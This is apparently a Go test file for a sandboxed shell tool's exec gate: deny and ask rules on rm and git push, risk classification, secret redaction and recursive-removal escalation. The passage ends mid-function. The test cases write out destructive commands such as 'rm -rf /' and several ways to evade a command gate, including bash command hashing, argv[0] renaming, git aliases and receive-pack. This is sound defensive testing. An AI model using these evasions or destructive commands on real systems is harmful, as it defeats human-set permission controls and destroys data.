//go:build linux

package shelltool

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/onellm/onellm-mcp/grants"
	"github.com/onellm/onellm-mcp/internal/toolkit"
	"github.com/onellm/onellm-mcp/shelltool/cmdline"
	"github.com/onellm/onellm-mcp/shelltool/sandbox"
	"github.com/onellm/onellm-mcp/webtools"
)

// gateCall is one call of the tool under a real policy, in the real
// sandbox, with every mid-action decision recorded.
type gateCall struct {
	mu        sync.Mutex
	decisions []grants.Decision
}

func (g *gateCall) env(p *grants.Policy) *toolkit.Env {
	// The server's gate without approvals: an ask is refused.
	return &toolkit.Env{Policy: p, Principal: "test", MidAction: func(_ context.Context, r grants.Request, st grants.Stage) (grants.Decision, error) {
		d := p.Decide(r)
		if st == grants.StageExec {
			d = p.DecideExec(r)
		}
		if d.Effect == grants.Ask {
			d.Effect, d.Reason = grants.Deny, grants.ReasonApprovalUnavailable
			if st == grants.StageExec && underSettles(p, d, r, func(grants.Decision) bool { return false }) {
				d.Effect, d.Reason = grants.Allow, grants.ReasonMatchedAllow
			}
		}
		g.mu.Lock()
		g.decisions = append(g.decisions, d)
		g.mu.Unlock()
		if d.Effect != grants.Allow {
			return d, &toolkit.MidActionRefused{Decision: d}
		}
		return d, nil
	}}
}

func policyFor(t testing.TB, ws, toml string) *grants.Policy {
	t.Helper()
	cfg, err := grants.Parse([]byte(toml), "", ws)
	if err != nil {
		t.Fatal(err)
	}
	p, err := grants.Compile(cfg, grants.CompileOptions{Home: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// runTool plans and runs the command directly (the upfront decision is the
// server's; these tests are about what happens once the line runs).
func runTool(t *testing.T, tool *Tool, env *toolkit.Env, command string) Output {
	t.Helper()
	args, _ := json.Marshal(Args{Command: command})
	tool.Start(env.Policy) // as the server does at start-up (once)
	plan, err := tool.Plan(context.Background(), env, args)
	if err != nil {
		t.Fatalf("plan %q: %v", command, err)
	}
	var g toolkit.Grant // every request allowed, as the server's decision would have
	for _, r := range plan.Requests {
		g.Decisions = append(g.Decisions, grants.Decision{Request: r, Effect: grants.Allow, Reason: grants.ReasonMatchedAllow})
	}
	res := plan.Run(context.Background(), g)
	var out Output
	b, _ := json.Marshal(res.Tool.StructuredContent)
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatalf("result %q: %v (%+v)", command, err, res.Tool)
	}
	return out
}

func needProgram(t *testing.T, names ...string) {
	t.Helper()
	for _, n := range names {
		if _, err := exec.LookPath(n); err != nil {
			if os.Getenv("CI") == "true" {
				t.Fatalf("%s not found", n)
			}
			t.Skipf("%s not found", n)
		}
	}
}

const denyRulesTOML = `profile = "interactive-dev"

[[rules.deny]]
rule_id    = "no-rm"
capability = "process.exec"
target     = { resource = "rm" }

[[rules.deny]]
rule_id    = "no-push"
capability = "process.exec"
target     = { command = "git push*" }

[[rules.deny]]
rule_id    = "no-deploy"
capability = "process.exec"
target     = { resource = "deploy.sh" }
`

// TestExecGateDenyRules: `deny process.exec rm` and `deny git push*` hold
// for every program the command starts, however it is started; the result
// lists the refused program with its rule and reason, and the decision is
// on the sandbox surface.
func TestExecGateDenyRules(t *testing.T) {
	needProgram(t, "make", "/usr/bin/python3", "git")
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, denyRulesTOML)
	victim := filepath.Join(ws, "victim")
	script := func(name, body string) {
		if err := os.WriteFile(filepath.Join(ws, name), []byte("#!/bin/sh\n"+body+"\necho rc=$?\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	script("rm.sh", "rm "+victim)
	script("push.sh", "git push origin main")
	script("deploy.sh", "rm "+victim)
	if err := os.WriteFile(filepath.Join(ws, "deploy.mk"), []byte("all:\n\t./deploy.sh prod\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "Makefile"), []byte("all:\n\trm "+victim+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tool := &Tool{}
	tests := []struct{ name, cmd, want, rule string }{
		{"absolute path", "/usr/bin/rm " + victim + "; echo rc=$?", "rc=137", "no-rm"},
		{"script", "./rm.sh", "rc=137", "no-rm"},
		{"make recipe", "make -s; echo rc=$?", "rc=2", "no-rm"},
		{"python os.execv", `/usr/bin/python3 -c 'import os; os.execv("/usr/bin/rm", ["rm", "` + victim + `"])'; echo rc=$?`, "rc=137", "no-rm"},
		{"hashed cat", "BASH_CMDS[cat]=/bin/rm; cat " + victim + "; echo rc=$?", "rc=137", "no-rm"},
		{"git push from a script", "./push.sh", "rc=137", "no-push"},
		{"script by its shebang, from make", "make -s -f deploy.mk; echo rc=$?", "rc=2", "no-deploy"},
		// git runs the builtin argv[0] names after "git-", reads its
		// subcommand past its global options and runs a -c alias as what
		// it stands for: each is git push.
		{"git push by argv[0]", "(exec -a git-push git origin main); echo rc=$?", "rc=137", "no-push"},
		{"git's dashed program", `"$(git --exec-path)"/git-push origin main; echo rc=$?`, "rc=137", "no-push"},
		{"git option before push", "git -C . --no-pager push origin main; echo rc=$?", "rc=137", "no-push"},
		// An alias: git executes itself again with it expanded.
		{"git alias given with -c", "git -c alias.p=push p origin main; echo rc=$?", "rc=137", "no-push"},
		{"git alias in the repository's configuration", "git init -q r && cd r && git config alias.p push && git p origin main; echo rc=$?", "rc=137", "no-push"},
		// receive-pack updates the refs of the repository it names from
		// the pack on its stdin: a push into it, by hand.
		{"git receive-pack", "git init -q --bare rp.git && git receive-pack rp.git </dev/null >/dev/null; echo rc=$?", "rc=137", "no-push"},
		{"git's dashed receive-pack", `git init -q --bare rp2.git && "$(git --exec-path)"/git-receive-pack rp2.git </dev/null >/dev/null; echo rc=$?`, "rc=137", "no-push"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if err := os.WriteFile(victim, []byte("x"), 0o644); err != nil {
				t.Fatal(err)
			}
			g := &gateCall{}
			out := runTool(t, tool, g.env(p), tc.cmd)
			if !strings.Contains(out.Stdout, tc.want) {
				t.Errorf("stdout %q, want %q (stderr %q)", out.Stdout, tc.want, out.Stderr)
			}
			if _, err := os.Stat(victim); err != nil {
				t.Errorf("rm ran")
			}
			if len(out.RefusedPrograms) != 1 || !strings.Contains(out.RefusedPrograms[0], "rule "+tc.rule) ||
				!strings.Contains(out.RefusedPrograms[0], "reason matched_deny") {
				t.Errorf("refused programs %q, want one by rule %s", out.RefusedPrograms, tc.rule)
			}
			found := false
			for _, d := range g.decisions {
				if d.RuleID == tc.rule && d.Effect == grants.Deny && d.Request.Surface == grants.SurfaceSandbox {
					found = true
				}
			}
			if !found {
				t.Errorf("no sandbox-surface deny by %s among %+v", tc.rule, g.decisions)
			}
		})
	}
	// Programs no rule names run (git itself, other subcommands).
	out := runTool(t, tool, (&gateCall{}).env(p), "git --version >/dev/null; echo rc=$?")
	if out.Stdout != "rc=0\n" || len(out.RefusedPrograms) != 0 {
		t.Errorf("git --version: %+v", out)
	}
}

// TestExecGateAskRule: a program an ask rule names (ask git push*) is
// killed at exec time, since no person can be asked inside a running
// command (reason approval_unavailable).
func TestExecGateAskRule(t *testing.T) {
	needProgram(t, "git")
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.ask]]\nrule_id = \"ask-push\"\ncapability = \"process.exec\"\ntarget = { command = \"git push*\" }\n")
	if err := os.WriteFile(filepath.Join(ws, "push.sh"), []byte("#!/bin/sh\ngit push origin main\necho rc=$?\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	out := runTool(t, &Tool{}, (&gateCall{}).env(p), "./push.sh")
	if out.Stdout != "rc=137\n" || len(out.RefusedPrograms) != 1 ||
		!strings.Contains(out.RefusedPrograms[0], "rule ask-push") || !strings.Contains(out.RefusedPrograms[0], "approval_unavailable") {
		t.Errorf("git push under ask: %+v", out)
	}
}

// TestExecGateBuildsRun: under interactive-dev a make whose recipes run rm,
// cc and sh, and npm test running node and sh, are never killed (rm alone on a line would be asked: high risk
// is asked by the profile, not by a rule naming rm); under
// strict-production, allowing make allows what it starts. A critical
// program (rm -r outside the workspace) is killed all the same.
func TestExecGateBuildsRun(t *testing.T) {
	needProgram(t, "make", "cc")
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	files := map[string]string{
		"x.c":      "int main(void) { return 0; }\n",
		"Makefile": "all:\n\tmkdir -p build\n\tcc -c x.c -o build/x.o\n\tsh -c 'echo built'\n\trm -f build/x.o\n",
		"nuke.sh":  "#!/bin/sh\nrm -r /tmp/outside\necho rc=$?\n",
		// The same by a relative path from outside the workspace.
		"nuke-relative.sh": "#!/bin/sh\ncd /tmp && rm -r outside\necho rc=$?\n",
	}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(ws, name), []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	tool := &Tool{}
	for _, cfg := range []string{
		`profile = "interactive-dev"`,
		"profile = \"strict-production\"\n[[rules.allow]]\nrule_id = \"make\"\ncapability = \"process.exec\"\ntarget = { resource = \"make\" }\n",
	} {
		p := policyFor(t, ws, cfg)
		out := runTool(t, tool, (&gateCall{}).env(p), "make -s")
		if out.ExitCode != 0 || out.Stdout != "built\n" || len(out.RefusedPrograms) != 0 {
			t.Errorf("%s: make: %+v", cfg, out)
		}
	}
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	// npm test runs node and sh (and rm) from package.json's script.
	if _, err := exec.LookPath("npm"); err == nil {
		pkg := `{"name":"x","version":"1.0.0","scripts":{"test":"node -e \"console.log('node-ok')\" && sh -c 'echo sh-ok' && rm -f nothing"}}`
		if err := os.WriteFile(filepath.Join(ws, "package.json"), []byte(pkg), 0o644); err != nil {
			t.Fatal(err)
		}
		out := runTool(t, tool, (&gateCall{}).env(p), "HOME="+ws+" npm test --silent")
		if out.ExitCode != 0 || out.Stdout != "node-ok\nsh-ok\n" || len(out.RefusedPrograms) != 0 {
			t.Errorf("npm test: %+v", out)
		}
	} else if os.Getenv("CI") == "true" {
		t.Fatal("npm not found")
	}
	for _, script := range []string{"./nuke.sh", "./nuke-relative.sh"} {
		out := runTool(t, tool, (&gateCall{}).env(p), "mkdir -p /tmp/outside && "+script+" && test -d /tmp/outside && echo kept")
		if !strings.Contains(out.Stdout, "rc=137\nkept") || len(out.RefusedPrograms) != 1 || !strings.Contains(out.RefusedPrograms[0], "critical") {
			t.Errorf("%s (rm -r outside): %+v", script, out)
		}
	}
}

// TestExecRequests: the requests a program makes at exec time: base names
// of the executable and of argv[0] (both decided), the classifier's risk,
// and unverifiable programs at critical risk.
func TestExecRequests(t *testing.T) {
	tests := []struct {
		name string
		ev   sandbox.ExecEvent
		want []string // resource|command|risk
		ws   string   // the workspace ("": not checked)
	}{
		{"plain", sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"/bin/rm", "-f", "x"}, Cwd: "/ws"},
			[]string{"rm|rm -f x|high"}, ""},
		{"argv0 differs", sandbox.ExecEvent{Exe: "/usr/bin/busybox", Argv: []string{"rm", "x"}},
			[]string{"busybox|busybox x|medium", "x|x|medium", "rm|rm x|high"}, ""},
		{"wrapper", sandbox.ExecEvent{Exe: "/usr/bin/env", Argv: []string{"env", "git", "push"}},
			[]string{"env|env git push|medium", "git|git push|medium"}, ""},
		{"critical", sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: []string{"git", "push", "--force"}},
			[]string{"git|git push --force|critical"}, ""},
		{"unverifiable", sandbox.ExecEvent{Exe: "/memfd:x (deleted)", Argv: []string{"x"}, Problem: "memfd"},
			[]string{"memfd:x (deleted)|/memfd:x (deleted)|critical"}, ""},
		{"empty argv", sandbox.ExecEvent{Exe: "/usr/bin/true"}, []string{"true|true|medium"}, ""},
		{"shebang script", sandbox.ExecEvent{Exe: "/usr/bin/dash", ExecPath: "./deploy.sh", Argv: []string{"/bin/sh", "./deploy.sh", "prod"}},
			[]string{"dash|dash ./deploy.sh prod|medium", "deploy.sh|deploy.sh prod|medium", "sh|sh ./deploy.sh prod|medium"}, ""}, // (deploy.sh also as dash's script: Command.Script)
		// git runs the builtin argv[0] names after "git-": decided as git SUB.
		{"git dashed by argv[0]", sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: []string{"git-push", "origin", "main"}},
			[]string{"git|git origin main|medium", "git-push|git-push origin main|medium", "git|git push origin main|medium"}, ""},
		{"git-core dashed program", sandbox.ExecEvent{Exe: "/usr/lib/git-core/git", ExecPath: "/usr/lib/git-core/git-push", Argv: []string{"/usr/lib/git-core/git-push", "-f"}},
			[]string{"git|git -f|medium", "git-push|git-push -f|medium", "git|git push -f|critical"}, ""},
		// The subcommand past git's global options.
		{"git global options", sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: []string{"git", "-C", "x", "--no-pager", "push", "origin"}},
			[]string{"git|git -C x --no-pager push origin|medium", "git|git push origin|medium"}, ""},
		// A relative operand from a folder outside the workspace is outside.
		{"rm -r relative, cwd outside", sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-r", "x"}, Cwd: "/tmp"},
			[]string{"rm|rm -r x|critical"}, "/ws"},
		{"rm -r relative, cwd the workspace's parent", sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-rf", "ws/a", "ws/b"}, Cwd: "/"},
			[]string{"rm|rm -rf ws/a ws/b|critical"}, "/ws"},
		{"rm -r relative, cwd inside", sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-r", "x"}, Cwd: "/ws/sub"},
			[]string{"rm|rm -r x|high"}, "/ws"},
		{"rm -r relative, cwd a sibling", sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-r", "x"}, Cwd: "/wsx"},
			[]string{"rm|rm -r x|critical"}, "/ws"},
		// After "--" a word starting with "-" is an operand too.
		{"rm -r -- -x/.., cwd outside", sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-r", "--", "-x/../victim"}, Cwd: "/tmp"},
			[]string{"rm|rm -r -- -x/../victim|critical"}, "/ws"},
		{"rm -r -- -x, cwd outside", sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-r", "--", "-x"}, Cwd: "/tmp"},
			[]string{"rm|rm -r -- -x|critical"}, "/ws"},
		{"rm -r -- -x, cwd inside", sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-r", "--", "-x"}, Cwd: "/ws"},
			[]string{"rm|rm -r -- -x|high"}, "/ws"},
		// git by every reading of its options, by autocorrect, by plumbing.
		{"git --shallow-file", sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: []string{"git", "--shallow-file", "x", "push", "origin"}},
			[]string{"git|git --shallow-file x push origin|medium", "git|git push origin|medium"}, ""},
		{"git unknown option", sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: []string{"git", "--later", "x", "push", "-f"}},
			[]string{"git|git --later x push -f|critical", "git|git x push -f|medium", "git|git push -f|critical"}, ""},
		{"git autocorrect", sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: []string{"git", "psuh", "origin"}},
			[]string{"git|git psuh origin|medium", "git|git push origin|medium"}, ""},
		{"git send-pack", sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: []string{"git", "send-pack", "../r.git", "HEAD:main"}},
			[]string{"git|git send-pack ../r.git HEAD:main|medium", "git|git push ../r.git HEAD:main|medium"}, ""},
		// receive-pack fed a pack on stdin updates the refs of the repository it names.
		{"git receive-pack", sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: []string{"git", "receive-pack", "r.git"}},
			[]string{"git|git receive-pack r.git|medium", "git|git push r.git|medium"}, ""},
		{"git-receive-pack", sandbox.ExecEvent{Exe: "/usr/lib/git-core/git-receive-pack", Argv: []string{"git-receive-pack", "r.git"}},
			[]string{"git-receive-pack|git-receive-pack r.git|medium", "git|git receive-pack r.git|medium", "git|git push r.git|medium"}, ""},
		{"git-http-push", sandbox.ExecEvent{Exe: "/usr/lib/git-core/git-http-push", Argv: []string{"git-http-push", "http://h/r", "main"}},
			[]string{"git-http-push|git-http-push http://h/r main|medium", "git|git http-push http://h/r main|medium", "git|git push http://h/r main|medium"}, ""},
		{"cc, cwd outside", sandbox.ExecEvent{Exe: "/usr/bin/cc", Argv: []string{"cc", "-c", "x.c", "-o", "x.o"}, Cwd: "/tmp/b"},
			[]string{"cc|cc -c x.c -o x.o|medium"}, "/ws"},
	}
	for _, tc := range tests {
		var got []string
		for _, r := range execRequests(tc.ev, identity{}, tc.ws) {
			if r.Capability != grants.CapProcessExec || r.Surface != grants.SurfaceSandbox || r.Target.ToolName != Name ||
				r.Cwd != tc.ev.Cwd || strings.Join(r.Argv, " ") != r.Target.Command && !gitFormArgv(r, tc.ev) {
				t.Errorf("%s: request %+v", tc.name, r)
			}
			got = append(got, r.Target.Resource+"|"+r.Target.Command+"|"+r.Risk.String())
		}
		if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
			t.Errorf("%s: got\n%s\nwant\n%s", tc.name, strings.Join(got, "\n"), strings.Join(tc.want, "\n"))
		}
	}
}

// FuzzExecRequests: any exec event (decoded as the server decodes the
// helper's) yields at least one process.exec request on the sandbox
// surface, never panics, and an event with a Problem is critical.
func FuzzExecRequests(f *testing.F) {
	f.Add(`{"exe":"/usr/bin/rm","argv":["rm","-rf","/"],"exec_path":"/bin/rm"}`)
	f.Add(`{"exe":"/usr/bin/dash","argv":["/bin/sh","./s.sh","a"],"exec_path":"./s.sh"}`)
	f.Add(`{"exe":"/memfd:x (deleted)","problem":"memfd"}`)
	f.Add(`{"exe":"","argv":[]}`)
	f.Add(`{"exe":"/tmp/x","written":"/tmp/x","argv":["/tmp/x","-rf","/"],"exec_path":"/tmp/x","size":5,"sha256":"00"}`)
	f.Fuzz(func(t *testing.T, data string) {
		var ev sandbox.ExecEvent
		if json.Unmarshal([]byte(data), &ev) != nil {
			return
		}
		reqs := execRequests(ev, identity{}, "")
		if len(reqs) == 0 {
			t.Fatalf("%s: no request", data)
		}
		// What the identity adds: names (decided too), a loader or a
		// problem (critical), the written path on every request.
		for _, id := range []identity{{names: []string{"rm", "git"}}, {loader: true}, {problem: "x"}} {
			more := execRequests(ev, id, "")
			for _, r := range more {
				if r.Target.Exe != ev.Written {
					t.Fatalf("%s: written path lost: %+v", data, r)
				}
				if (id.loader || id.problem != "") && r.Risk != grants.RiskCritical {
					t.Fatalf("%s: unverifiable program not critical: %+v", data, r)
				}
			}
			if len(more) == 0 {
				t.Fatalf("%s: no request with %+v", data, id)
			}
		}
		for _, r := range reqs {
			if r.Capability != grants.CapProcessExec || r.Surface != grants.SurfaceSandbox || r.Risk < grants.RiskMedium {
				t.Fatalf("%s: request %+v", data, r)
			}
			if (ev.Problem != "" || ev.Exe == "") && r.Risk != grants.RiskCritical {
				t.Fatalf("%s: unverifiable program not critical: %+v", data, r)
			}
		}
	})
}

// BenchmarkExecDecision is the server's share of one exec: the event
// decoded, its requests built (AnalyzeArgv) and decided (DecideExec) under
// interactive-dev.
func BenchmarkExecDecision(b *testing.B) {
	ws := b.TempDir()
	cfg, err := grants.Parse([]byte(`profile = "interactive-dev"`), "", ws)
	if err != nil {
		b.Fatal(err)
	}
	p, err := grants.Compile(cfg, grants.CompileOptions{Home: ws})
	if err != nil {
		b.Fatal(err)
	}
	line := []byte(`{"pid":7,"exe":"/usr/bin/cc","dev":2049,"ino":1234,"argv":["cc","-c","x.c","-o","build/x.o"],"exec_path":"/usr/bin/cc","cwd":"` + ws + `"}`)
	for b.Loop() {
		var ev sandbox.ExecEvent
		if err := json.Unmarshal(line, &ev); err != nil {
			b.Fatal(err)
		}
		for _, r := range execRequests(ev, identity{}, "") {
			if d := p.DecideExec(r); d.Effect != grants.Allow {
				b.Fatal(d.Explain())
			}
		}
	}
}

// TestExecGateRedactsSecrets: a brokered secret's value in a program's argv
// never reaches what is decided, audited or listed.
func TestExecGateRedactsSecrets(t *testing.T) {
	secrets := []webtools.Secret{{Name: "tok", Value: "s3cr3t-v4lue"}}
	ev := sandbox.ExecEvent{Exe: "/usr/bin/curl", Argv: []string{"curl", "https://x/s3cr3t-v4lue"}, Cwd: "/ws/s3cr3t-v4lue"}
	for _, r := range execRequests(redactEvent(ev, secrets), identity{}, "") {
		b, _ := json.Marshal(r)
		if strings.Contains(string(b), "s3cr3t-v4lue") || !strings.Contains(string(b), "[REDACTED:tok]") {
			t.Errorf("request %s", b)
		}
	}
	if ev.Argv[1] != "https://x/s3cr3t-v4lue" {
		t.Errorf("the event itself was changed")
	}
}

// TestExecGateDecidesEveryExec: the requests an event makes are kept for
// the call, but every exec is decided (and so audited) again, and another
// argv, folder or file is never taken for a kept one.
func TestExecGateDecidesEveryExec(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.deny]]\nrule_id = \"no-rm-x\"\ncapability = \"process.exec\"\ntarget = { command = \"rm x\" }\n")
	g := &gateCall{}
	gate := execGate(context.Background(), g.env(p), &lineLog{}, nil, &programTable{byFile: map[fileID]*hostProgram{}}, nil, callFacts{})
	ev := sandbox.ExecEvent{PID: 7, Exe: "/usr/bin/rm", Dev: 1, Ino: 2, Argv: []string{"rm", "y"}, ExecPath: "/usr/bin/rm", Cwd: ws}
	for i := range 3 {
		ev.PID = 7 + i
		if !gate(ev) {
			t.Fatalf("rm y refused")
		}
	}
	if n := len(g.decisions); n != 3 {
		t.Errorf("%d decisions for 3 execs of rm y", n)
	}
	denied := ev
	denied.Argv = []string{"rm", "x"}
	if gate(denied) {
		t.Errorf("rm x allowed after rm y")
	}
	other := ev
	other.Cwd = "/"
	other.Argv = []string{"rm", "-r", "y"}
	for _, e := range []sandbox.ExecEvent{other, ev} {
		before := len(g.decisions)
		gate(e)
		if len(g.decisions) == before {
			t.Errorf("%+v not decided", e)
		}
	}
	if d := g.decisions[len(g.decisions)-2]; d.Request.Cwd != "/" || d.Request.Risk != grants.RiskCritical {
		t.Errorf("rm -r y from / decided as %+v", d.Request)
	}
}

// TestOutsideCwdLineAndExec: a line run from a folder outside the
// workspace is classified as the exec gate classifies its programs there
// (rm -r of a relative path is rm -r outside), so the line's request and
// the program's are the same approval; from the workspace both stay as
// they were.
func TestOutsideCwdLineAndExec(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	for _, tc := range []struct {
		cwd  string
		risk grants.Risk
	}{{"/tmp/build", grants.RiskCritical}, {ws + "/sub", grants.RiskHigh}, {ws, grants.RiskHigh}} {
		reqs, err := LineRequests(p, "rm -r out", tc.cwd, grants.SurfaceSandbox)
		if err != nil || len(reqs) != 1 || reqs[0].Risk != tc.risk {
			t.Fatalf("from %s: %+v %v, want risk %v", tc.cwd, reqs, err, tc.risk)
		}
		ev := sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-r", "out"}, ExecPath: "/usr/bin/rm", Cwd: tc.cwd}
		got := execRequests(ev, identity{}, ws)
		if len(got) != 1 || got[0].KeyInCall() != reqs[0].KeyInCall() || got[0].Risk != reqs[0].Risk {
			t.Errorf("from %s: the exec gate decides %+v, the line %+v", tc.cwd, got, reqs[0])
		}
	}
}

// TestExecGateCacheMemory: a loop of programs with big argvs does not make
// the gate's per-call cache hold them (before, 48 events of 400 KB held
// over 100 MiB): the heap after GC stays bounded, every exec is decided.
func TestExecGateCacheMemory(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, denyRulesTOML)
	decided := 0
	env := &toolkit.Env{Policy: p, Principal: "test", MidAction: func(_ context.Context, r grants.Request, _ grants.Stage) (grants.Decision, error) {
		decided++
		return p.DecideExec(r), nil
	}}
	gate := execGate(context.Background(), env, &lineLog{}, nil, &programTable{byFile: map[fileID]*hostProgram{}}, nil, callFacts{})
	words := []string{"git-status"}
	for range 4000 {
		words = append(words, strings.Repeat("a", 100))
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	const events = 48
	for i := range events {
		argv := append(slices.Clip(words), strconv.Itoa(i))
		if !gate(sandbox.ExecEvent{PID: 1, Exe: "/usr/bin/git", Argv: argv, Cwd: ws}) {
			t.Fatalf("event %d refused", i)
		}
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	runtime.KeepAlive(gate)
	grew := int64(after.HeapAlloc) - int64(before.HeapAlloc)
	t.Logf("the heap grew by %d KiB after %d events of %d KiB", grew>>10, events, len(words)*101>>10)
	if grew > 24<<20 {
		t.Errorf("the heap grew by %d MiB after %d big events", grew>>20, events)
	}
	if decided < events {
		t.Errorf("%d decisions for %d execs", decided, events)
	}
}

// TestRaiseEmptying: a recursive removal whose operands are every entry of
// the workspace root that * names (all but one in sixteen of them, for
// files made meanwhile) is as critical as removing the root, however the
// operands are written; one that spares more, is not recursive, or names
// the entries of another folder stays as it was. Only such a removal
// lists the folder, and says so.
func TestRaiseEmptying(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	for _, d := range []string{"a", "b", "c", ".git", "a/x", "a/y"} {
		if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	big, _ := filepath.EvalSymlinks(t.TempDir())
	var bigNames []string
	for i := range 20 {
		n := "e" + strconv.Itoa(10+i)
		bigNames = append(bigNames, n)
		if err := os.WriteFile(filepath.Join(big, n), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	hidden, _ := filepath.EvalSymlinks(t.TempDir())
	for _, n := range []string{".x", ".y", ".z"} {
		if err := os.Mkdir(filepath.Join(hidden, n), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	rmrf := func(ops ...string) []string { return append([]string{"rm", "-rf"}, ops...) }
	for _, tc := range []struct {
		name     string
		ws, cwd  string
		argv     []string
		want     grants.Risk
		wantList bool
	}{
		{"rm -rf * expanded", ws, ws, rmrf("a", "b", "c"), grants.RiskCritical, true},
		{"rm -rf ./* expanded", ws, ws, rmrf("./a", "./b", "./c"), grants.RiskCritical, true},
		{"rm -rf -- * expanded", ws, ws, rmrf("--", "a", "b", "c"), grants.RiskCritical, true},
		{"rm -r .[!.]* * expanded", ws, ws, []string{"rm", "-r", ".git", "a", "b", "c"}, grants.RiskCritical, true},
		{"rm --recursive, absolute", ws, ws + "/a", []string{"rm", "--recursive", ws + "/a", ws + "/b", ws + "/c"}, grants.RiskCritical, true}, // absolute: critical already, listed to be named by the folder
		{"find -delete of every entry", ws, ws, []string{"find", "a", "b", "c", "-delete"}, grants.RiskCritical, true},
		{"find . -delete", ws, ws, []string{"find", ".", "-mindepth", "1", "-delete"}, grants.RiskCritical, false},
		{"find sub/.. -delete", ws, ws, []string{"find", "a/..", "-delete"}, grants.RiskCritical, false},
		{"one entry spared", ws, ws, rmrf("a", "b"), grants.RiskHigh, true},
		{"one operand", ws, ws, rmrf("a"), grants.RiskHigh, false},
		{"not recursive", ws, ws, []string{"rm", "-f", "a", "b", "c"}, grants.RiskHigh, false},
		{"find that selects", ws, ws, []string{"find", "a", "b", "c", "-name", "*.o", "-delete"}, grants.RiskHigh, false},
		{"every entry of a subfolder", ws, ws + "/a", rmrf("x", "y"), grants.RiskHigh, false},
		{"19 of 20 entries", big, big, rmrf(bigNames[1:]...), grants.RiskCritical, true},
		{"18 of 20 entries", big, big, rmrf(bigNames[2:]...), grants.RiskHigh, true},
		{"workspace unlistable", ws + "/gone", ws + "/gone", rmrf("a", "b"), grants.RiskCritical, true},
		{"no workspace", "", ws, rmrf("a", "b", "c"), grants.RiskHigh, false},
		// Hidden entries alone: * names none, so every entry counts.
		{"two of three hidden entries", hidden, hidden, rmrf(".x", ".y"), grants.RiskHigh, true},
		{"every hidden entry", hidden, hidden, rmrf(".x", ".y", ".z"), grants.RiskCritical, true},
		{"hidden ones, visible spared", ws, ws, rmrf(".git", "a"), grants.RiskHigh, true},
	} {
		cmds, err := cmdline.AnalyzeArgv(tc.argv)
		if err != nil {
			t.Fatal(err)
		}
		c := cmds[0]
		listed := raiseEmptying(&c, tc.cwd, tc.ws)
		if c.Risk != tc.want || listed != tc.wantList {
			t.Errorf("%s: %q from %s: risk %v (%s), listed %v; want %v, listed %v", tc.name, tc.argv, tc.cwd, c.Risk, c.Option, listed, tc.want, tc.wantList)
		}
	}
	// The line's request and the program's are decided alike.
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	reqs, err := LineRequests(p, "rm -rf a b c", ws, grants.SurfaceSandbox)
	if err != nil || len(reqs) != 1 || reqs[0].Risk != grants.RiskCritical {
		t.Errorf("the line rm -rf a b c: %+v %v", reqs, err)
	}
	got := execRequests(sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: rmrf("a", "b", "c"), ExecPath: "/usr/bin/rm", Cwd: ws}, identity{}, ws)
	// The named request, and the program's own words (for rules on them).
	if len(got) != 2 || got[0].KeyInCall() != reqs[0].KeyInCall() || got[0].Risk != reqs[0].Risk || got[1].Target.Command != "rm -rf a b c" {
		t.Errorf("the exec gate decides %+v, the line %+v", got, reqs)
	}
}

// TestEmptyingRulesOnOwnWords: a deny or ask rule on a removal's words
// holds when the removal empties the workspace and is named by its folder:
// on the line and at exec (the gate refuses it), while without the rule
// the line's approval still settles the program.
func TestEmptyingRulesOnOwnWords(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	for _, d := range []string{"a", "b", "precious"} {
		if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	rule := func(effect string) string {
